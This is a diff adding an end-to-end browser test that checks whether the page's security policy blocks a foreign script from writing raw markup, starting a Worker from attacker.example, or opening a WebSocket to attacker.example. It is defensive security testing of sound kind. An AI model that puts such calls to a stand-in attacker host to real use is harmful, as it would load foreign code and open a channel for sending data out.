@@ -43,6 +43,32 @@ const changePhone = async (page: Page, number: string): Promise<void> => {
   await page.getByRole('main').getByRole('button', { name: 'Save number' }).click()
 }
 
+describe('a foreign script in the page', () => {
+  it('cannot write markup, start a foreign worker or send data to another host', async () => {
+    const { page } = await open(1280, '/')
+    const refusals = await page.evaluate(async () => {
+      const tryTo = (act: () => unknown) => {
+        try {
+          act()
+          return 'allowed'
+        } catch (error) {
+          return (error as Error).name
+        }
+      }
+      const blocked = new Promise<string>(resolve =>
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+          if (blockedURI.startsWith('wss://')) resolve(effectiveDirective)
+        }),
+      )
+      const markup = tryTo(() => (document.body.innerHTML = '<img src=x>'))
+      const worker = tryTo(() => new Worker('https://attacker.example/worker.js'))
+      tryTo(() => new WebSocket('wss://attacker.example/'))
+      return { markup, worker, socket: await blocked }
+    })
+    expect(refusals).toEqual({ markup: 'TypeError', worker: 'TypeError', socket: 'connect-src' })
+  })
+})
+
 describe('the registration', () => {
   it('explains an under-age date of birth, offers support and forgives it after a day', async () => {
     const { page, errors } = await open(390, '/?signup=true')
